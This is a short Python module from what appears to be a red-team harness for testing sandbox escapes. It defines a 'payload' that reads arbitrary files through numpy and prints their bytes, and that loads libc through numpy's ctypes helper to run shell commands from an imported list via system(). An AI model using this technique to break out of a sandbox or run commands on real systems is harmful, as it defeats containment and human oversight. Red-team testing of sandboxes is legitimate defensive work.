"""The numpy-only (kernel) payload: helpers every payload starts with."""

from farmd.intake.escapes.given import COMMANDS, NAME

# -- the payload: the box is given this file from the line below on --

import numpy as np


def say(*parts):
    try:
        print('farm-redteam', NAME, *parts, flush=True)
    except BaseException:
        pass


def guard(label, fn, *args, **kwargs):
    try:
        return fn(*args, **kwargs)
    except BaseException as exc:
        say('stopped', label, type(exc).__name__, str(exc)[:200])
        return None


def slurp(path):
    data = np.fromfile(path, dtype=np.uint8, count=65536).tobytes()
    say('read', path, data.hex(), repr(data[:2000]))


def libc():
    failure = None
    for d in ('/lib/x86_64-linux-gnu', '/usr/lib/x86_64-linux-gnu', '/lib64', '/usr/lib64', '/lib', '/usr/lib'):
        try:
            return np.ctypeslib.load_library('libc.so.6', d)
        except PermissionError:
            raise
        except BaseException as exc:
            failure = exc
    raise failure


def run(commands):
    lib = libc()
    for command in commands:
        say('system', command[:60], lib.system(command.encode()))


def main():
    guard('system', run, COMMANDS)


def on_call():
    pass
